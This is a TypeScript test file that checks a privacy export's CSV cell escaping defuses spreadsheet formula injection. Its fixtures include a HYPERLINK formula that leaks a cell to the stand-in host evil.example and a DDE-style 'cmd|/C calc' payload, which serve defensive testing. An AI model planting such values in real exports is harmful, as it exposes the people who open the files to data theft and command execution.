import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { csvCell, packageArchive, toCsv } from '../../src/privacy/archive';

describe('data package CSV cells', () => {
  it('defuses cells a spreadsheet would run as a formula', () => {
    for (const v of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-', '=']) {
      expect(csvCell(v).replace(/^"/, '').startsWith("'"), JSON.stringify(v)).toBe(true);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('@x "y"')).toBe(`"'@x ""y"""`);
  });

  it('leaves ordinary values, numbers and negative amounts as they are', () => {
    expect(csvCell('Sam Subject')).toBe('Sam Subject');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell('x,y')).toBe('"x,y"');
  });

  it('applies to every table of a package, headers included', () => {
    const csv = toCsv([{ name: '=cmd()', amount: '-1.00', agent: '@evil' }]);
    expect(csv).toBe("name,amount,agent\n'=cmd(),-1.00,'@evil\n");
    const files = unzipSync(packageArchive({ data: {} }, { users: [{ name: '+danger' }] }));
    expect(strFromU8(files['users.csv']!)).toBe("name\n'+danger\n");
  });
});
